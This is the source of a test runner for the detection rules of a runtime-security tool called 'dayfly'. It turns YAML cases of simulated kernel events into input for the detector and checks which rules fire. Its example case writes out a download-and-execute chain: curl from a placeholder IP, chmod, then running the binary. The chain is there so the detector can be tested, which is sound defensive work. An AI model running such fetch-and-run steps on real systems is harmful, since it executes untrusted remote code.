/**
 * Tests of rules: files of cases, each some events and what is to be said of them.
 *
 * ```yaml
 * apiVersion: dayfly.dev/v1
 * kind: RuleTest
 * metadata: { name: downloads }
 * cases:
 * - name: what is downloaded and run is told
 *   subject: { kind: job }
 *   events:
 *   - { type: exec, args: [sh, -c, …] }                                # of the first process, where none is named
 *   - { type: exec, process: get, args: [curl, http://192.0.2.1/x] }   # another one, made by the first
 *   - { type: chmod, process: set, name: chmod, path: /srv/x, mode: 493, after: 2s }
 *   - { type: exec, process: run, parent: get, exe: /srv/x, flags: [upper] }
 *   - { type: exec, process: look, parent: outside, args: [sh] }       # put in, as `dayfly exec` does
 *   expect: [Dropped binary, { rule: 'Downloaded, made executable, run', output: exe=/srv/x }]
 * ```
 *
 * An event has the fields of `KernelEvent`; what it does not say is made up in a way that fits. `expect` names all rules that speak, in any order, once.
 */
import { parseAllDocuments } from 'yaml'
import { z } from 'zod'
import { parseDuration } from '../base/durations.ts'
import { DayflyError } from '../base/errors.ts'
import { isNestedDeeper } from '../base/yaml-nesting.ts'
import { KernelEvent } from '../model/kernel-event.ts'
import { parse } from '../model/parse.ts'
import type { DetectorRules, RuleFile } from './create.ts'
import { createDetector } from './create.ts'
import type { Detection, Subject } from './detector.ts'

const Label = z.string().min(1).max(64)
const CaseEvent = KernelEvent.omit({ environment: true, instance: true, time: true })
  .partial()
  .required({ type: true })
  .extend({
    /** Names a process of the case: `main` is the first one. */
    process: Label.default('main'),
    /** Who made it, where it is new: `main`, or `outside`. */
    parent: Label.optional(),
    /** Since the event before. */
    after: z.string().optional(),
  })
  .strict()
type CaseEvent = z.output<typeof CaseEvent>

const Expected = z.union([z.string().transform(rule => ({ rule })), z.strictObject({ rule: z.string(), output: z.string().optional() })])

const CaseFile = z.strictObject({
  apiVersion: z.literal('dayfly.dev/v1'),
  kind: z.literal('RuleTest'),
  metadata: z.looseObject({ name: z.string().min(1) }),
  cases: z
    .array(
      z.strictObject({
        name: z.string().min(1),
        subject: z
          .strictObject({
            environmentName: z.string(),
            workload: z.string(),
            kind: z.string(),
            image: z.string(),
            imageName: z.string(),
            owner: z.string(),
            labels: z.record(z.string(), z.string()),
            privileged: z.boolean(),
            egress: z.array(z.string()),
          })
          .partial()
          .default({}),
        events: z.array(CaseEvent).min(1),
        expect: z.array(Expected),
      }),
    )
    .min(1),
})

export interface RuleCase {
  readonly suite: string
  readonly name: string
  readonly file: string
  readonly subject: Subject
  readonly events: readonly KernelEvent[]
  readonly expect: readonly { readonly rule: string; readonly output?: string | undefined }[]
}

export interface RuleCaseResult extends Pick<RuleCase, 'suite' | 'name' | 'file'> {
  /** Empty: it is as expected. */
  readonly failures: readonly string[]
}

/** When cases begin: nothing depends on it. */
const beginning = Date.parse('2026-01-01T00:00:00Z')
const [firstPid, outsidePid] = [1000, 2]

interface Player {
  readonly pid: number
  readonly vpid: number
  readonly start: number
  readonly parent: Player | undefined
  name: string
}

const lastWord = (path: string): string => path.slice(path.lastIndexOf('/') + 1).slice(0, 15)

/** In their order, whole. */
const complete = (events: readonly CaseEvent[], subject: Subject, field: string): KernelEvent[] => {
  const players = new Map<string, Player>()
  let time = beginning
  const playerOf = (label: string, parent: string | undefined): Player => {
    const known = players.get(label)
    if (known !== undefined) return known
    const isMain = label === 'main'
    const made = isMain || parent === 'outside' ? undefined : playerOf(parent ?? 'main', undefined)
    const number = players.size + 1
    const player = { pid: firstPid + number, vpid: isMain ? 1 : number + 1, start: number * 1000, parent: made, name: made?.name ?? label }
    players.set(label, player)
    return player
  }
  playerOf('main', undefined)
  return events.map(({ process, parent, after, ...facts }, index) => {
    time += after === undefined ? 1 : parseDuration(after, `${field}.events[${index}].after`)
    const player = playerOf(process, parent)
    const exe = facts.exe ?? (facts.type === 'exec' ? facts.args?.[0] : undefined)
    if (facts.type === 'exec' && exe !== undefined) player.name = lastWord(exe)
    if (facts.name !== undefined) player.name = facts.name
    const { pid, vpid, start, name } = player
    return parse(
      KernelEvent,
      {
        ...{ pid, vpid, start, name, tid: pid, parentPid: player.parent?.pid ?? outsidePid, parentStart: player.parent?.start ?? 1 },
        ...{ parentVpid: player.parent?.vpid ?? 0, parentName: player.parent?.name ?? 'outside', uid: 0, euid: 0, gid: 0, result: 0 },
        ...(exe === undefined ? {} : { exe, path: exe }),
        ...(facts.type === 'exec' && facts.args === undefined && exe !== undefined ? { args: [exe] } : {}),
        ...facts,
        ...{ time, environment: subject.environment, instance: subject.instance },
      },
      `${field}.events[${index}]`,
    )
  })
}

const isCases = (value: unknown): boolean => typeof value === 'object' && value !== null && 'kind' in value && value.kind === 'RuleTest'

/** The cases of a file's documents of kind RuleTest; undefined where it has none. Throws `invalid` naming file and field. */
export const readRuleCases = ({ path, text }: RuleFile): readonly RuleCase[] | undefined => {
  if (!/\bRuleTest\b/.test(text) || isNestedDeeper(text, 32)) return undefined
  const documents = parseAllDocuments(text, { logLevel: 'silent' })
  if (!Array.isArray(documents) || documents.some(({ errors }) => errors.length > 0)) return undefined
  const values: unknown[] = documents.map(document => document.toJS({ maxAliasCount: 100 }))
  if (!values.every(isCases)) {
    if (!values.some(isCases)) return undefined
    throw new DayflyError('invalid', `${path}: cases and rules are in one file`, { field: path, remedy: 'Put the cases into a file of their own.' })
  }
  return values.flatMap(value => {
    const parsed = parse(CaseFile, value, path)
    return parsed.cases.map(({ name, subject: given, events, expect }, index) => {
      const subject: Subject = {
        ...{
          environment: 'test',
          environmentName: 'test',
          instance: 'test',
          workload: 'main',
          kind: 'service',
          image: 'sha256:0',
          imageName: 'test',
        },
        ...{ owner: 'test', labels: {}, startedAt: beginning, privileged: false, egress: [] },
        ...(Object.fromEntries(Object.entries(given).filter(([, each]) => each !== undefined)) satisfies Partial<Subject>),
      }
      return { suite: parsed.metadata.name, name, file: path, subject, events: complete(events, subject, `${path}: cases[${index}]`), expect }
    })
  })
}

const compare = (expect: RuleCase['expect'], found: readonly Detection[]): string[] => [
  ...expect
    .filter(({ rule, output }) => !found.some(each => each.rule === rule && (output === undefined || each.output.includes(output))))
    .map(({ rule, output }) => {
      const said = found.filter(each => each.rule === rule).map(each => each.output)
      if (said.length > 0) return `${rule}: expected "${output}" in what it says, which is: ${said.join('; ')}`
      return `${rule}: it says nothing`
    }),
  ...[...new Set(found.map(({ rule }) => rule))]
    .filter(rule => !expect.some(each => each.rule === rule))
    .map(rule => `${rule}: nobody expected it to say: ${found.find(each => each.rule === rule)?.output}`),
]

/** Each with a detector of its own. Throws `invalid` for rules with errors. */
export const runRuleCases = (cases: readonly RuleCase[], rules: DetectorRules): RuleCaseResult[] =>
  cases.map(({ suite, name, file, subject, events, expect }) => {
    const detector = createDetector(rules)
    detector.introduce(subject)
    return {
      suite,
      name,
      file,
      failures: compare(
        expect,
        events.flatMap(event => detector.observe(event)),
      ),
    }
  })
